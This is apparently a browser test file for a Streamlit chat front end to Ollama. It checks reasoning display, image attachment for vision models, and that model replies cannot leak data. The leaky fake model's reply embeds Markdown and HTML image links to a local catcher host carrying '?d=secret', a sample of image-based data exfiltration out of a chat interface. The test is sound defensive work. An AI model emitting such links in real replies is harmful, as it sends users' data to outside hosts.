"""Reasoning, images and Markdown that cannot leak, in a real browser (Debian's chromium,
Playwright) against `streamlit run` and the loopback Ollama server."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from testkit.browser import model_picker, streamlit_server, wait_until_idle
from testkit.fake_ollama import FakeModel, FakeOllama
from testkit.images import png

pytestmark = pytest.mark.browser

REASONING = " ".join(f"step{i}" for i in range(25))


class Catcher:
    """A host that is not the app: any request reaching it is a leak."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        catcher = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                catcher.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                data = png()
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture(scope="module")
def catcher() -> Iterator[Catcher]:
    server = Catcher()
    yield server
    server.server.shutdown()


@pytest.fixture(scope="module")
def ollama(catcher: Catcher) -> Iterator[FakeOllama]:
    leaky = (
        f"Here you go ![chart]({catcher.origin}/leak/inline?d=secret) and "
        f"![logo][ref] and <img src='{catcher.origin}/leak/html'> done.\n\n"
        f"[ref]: {catcher.origin}/leak/reference.png"
    )
    server = FakeOllama(
        [
            FakeModel("leaky:latest", reply=leaky),
            FakeModel(
                "qwen3:4b",
                reply="The answer is four.",
                thinking=REASONING,
                token_delay=0.08,
                capabilities=("completion", "thinking"),
            ),
            FakeModel("gemma3:4b", reply="A red square.", capabilities=("completion", "vision")),
        ]
    ).start()
    yield server
    server.stop()


def pick_model(page, name: str) -> None:  # type: ignore[no-untyped-def]
    model_picker(page).click()
    page.get_by_role("option", name=name).first.click()
    wait_until_idle(page)


def send(page, text: str) -> None:  # type: ignore[no-untyped-def]
    page.get_by_test_id("stChatInputTextArea").fill(text)
    page.keyboard.press("Enter")


def test_markdown_images_to_another_host_are_never_requested(
    browser, ollama: FakeOllama, catcher: Catcher, tmp_path
) -> None:
    env = {"OLLAMA_HOST": ollama.url, "CHAT_DB": str(tmp_path / "chat.duckdb"), "EMBEDDED": "0"}
    with streamlit_server(env, tmp_path / "streamlit.log") as url:
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))
        page.goto(url)
        wait_until_idle(page)
        pick_model(page, "leaky:latest")
        send(page, f"Show ![mine]({catcher.origin}/leak/user?d=1) please")
        page.get_by_text("done.").wait_for(timeout=30_000)
        wait_until_idle(page)
        page.reload()  # the stored dialogue, drawn again from the database
        wait_until_idle(page)
        page.get_by_text("done.").wait_for(timeout=30_000)
        page.wait_for_timeout(1000)

        reply = page.get_by_test_id("stChatMessage").nth(1)
        links = reply.get_by_role("link").all_inner_texts()
        assert any("chart" in text and "127.0.0.1" in text for text in links), links
        assert any("logo" in text and "127.0.0.1" in text for text in links), links
        leaks = [u for u in requested if u.startswith(catcher.origin)]
        assert leaks == [] and catcher.hits == [], (leaks, catcher.hits)
        page.screenshot(path=str(tmp_path / "no-leak.png"))


def test_thinking_streams_open_then_collapses_above_the_answer(
    browser, ollama: FakeOllama, tmp_path
) -> None:
    env = {"OLLAMA_HOST": ollama.url, "CHAT_DB": str(tmp_path / "chat.duckdb"), "EMBEDDED": "0"}
    with streamlit_server(env, tmp_path / "streamlit.log") as url:
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        page.goto(url)
        wait_until_idle(page)
        pick_model(page, "qwen3:4b")
        assert page.get_by_test_id("stSidebar").get_by_text("Thinking").count()  # the control
        send(page, "What is 2+2?")

        reply = page.get_by_test_id("stChatMessage").nth(1)
        seen_open: list[str] = []
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            block = reply.get_by_test_id("stExpander")
            if block.count() and block.first.get_by_text("step3").is_visible():
                seen_open.append(block.first.inner_text())
            if reply.get_by_text("The answer is four.").count():
                break
            time.sleep(0.05)
        assert len({t for t in seen_open if "step24" not in t}) >= 3, "thinking did not stream"
        assert any("Thinking…" in t for t in seen_open)
        wait_until_idle(page)

        block = reply.get_by_test_id("stExpander").first
        assert "Thought for" in block.inner_text()
        assert not block.get_by_text("step3").is_visible()  # collapsed once the answer came
        assert "step3" not in reply.get_by_test_id("stMarkdown").last.inner_text()
        caption = reply.get_by_test_id("stCaptionContainer").inner_text()
        assert "thinking" in caption and "answer after" in caption, caption
        page.screenshot(path=str(tmp_path / "thinking.png"))


def test_an_image_is_attached_for_a_vision_model(browser, ollama: FakeOllama, tmp_path) -> None:
    picture = tmp_path / "red.png"
    picture.write_bytes(png(size=(64, 64)))
    env = {"OLLAMA_HOST": ollama.url, "CHAT_DB": str(tmp_path / "chat.duckdb"), "EMBEDDED": "0"}
    with streamlit_server(env, tmp_path / "streamlit.log") as url:
        page = browser.new_page(viewport={"width": 1280, "height": 900})
        page.goto(url)
        wait_until_idle(page)
        pick_model(page, "leaky:latest")
        assert page.get_by_text("can't see images").count()
        pick_model(page, "gemma3:4b")
        chat_input = page.get_by_test_id("stChatInput")
        chat_input.locator("input[type=file]").set_input_files(str(picture))
        page.wait_for_timeout(500)
        send(page, "What is this?")
        page.get_by_text("A red square.").wait_for(timeout=30_000)
        wait_until_idle(page)
        sent = ollama.chat_requests()[-1]["body"]["messages"][-1]
        assert sent["content"] == "What is this?" and len(sent["images"]) == 1
        user = page.get_by_test_id("stChatMessage").first
        assert user.get_by_role("img").count() >= 1
        page.screenshot(path=str(tmp_path / "image.png"))
